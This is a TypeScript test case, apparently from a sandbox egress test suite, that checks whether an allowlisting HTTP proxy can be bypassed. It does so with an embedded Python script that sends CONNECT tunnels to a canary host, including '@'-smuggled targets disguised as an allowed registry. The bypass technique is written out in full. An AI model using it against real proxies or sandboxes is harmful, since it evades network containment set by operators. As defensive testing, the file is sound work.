import { webCanary } from '../support/canaries.ts'
import { commandCase } from '../support/command-scene.ts'

export const attack = commandCase({
  mechanism: 'proxy: CONNECT',
  gain: 'a mail or database server of an allowed host, or a host hidden in front of an @',
  async attempt(scene) {
    const canary = await webCanary(scene)
    const at = `${canary.host}:${canary.port}`
    const { output } = await scene.run({
      line: await scene.python(tunnel, at, `registry.example.org@${at}`, `registry.example.org:443@${at}`),
      network: { allowedHosts: [canary.host, 'registry.example.org'] },
    })
    return output.includes(scene.token)
  },
})

const tunnel = `
import os, socket, sys, urllib.parse
proxy = urllib.parse.urlparse(os.environ['HTTP_PROXY'])
for at in sys.argv[1:]:
    peer = socket.create_connection((proxy.hostname, proxy.port), 3)
    peer.sendall(('CONNECT %s HTTP/1.1\\r\\nHost: registry.example.org\\r\\n\\r\\n' % at).encode())
    print(peer.recv(4096).decode())
    try:
        peer.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
        while chunk := peer.recv(4096): print(chunk.decode())
    except OSError as error:
        print(error)
`
